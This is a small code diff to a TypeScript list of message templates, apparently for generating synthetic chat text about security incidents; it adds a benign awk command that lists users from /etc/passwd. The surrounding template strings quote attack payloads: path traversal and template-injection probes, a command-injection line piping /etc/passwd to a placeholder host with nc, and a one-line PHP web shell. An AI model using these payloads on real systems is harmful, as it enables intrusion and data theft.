@@ -20,6 +20,7 @@ const QUOTES = [
   "our WAF blocked ../../../../etc/passwd and {{7*7}} from {n} today, nice",
   "someone posted `; cat /etc/passwd | nc {h} {k}` in the {n} form",
   "<?php system($_GET['{n}']); ?> was in the uploads folder, we're rebuilding {h}",
+  "awk -F: '{print $1}' /etc/passwd | sort | head -{j} lists the users",
 ] as const;
 
 function draft(random: Random): Draft {
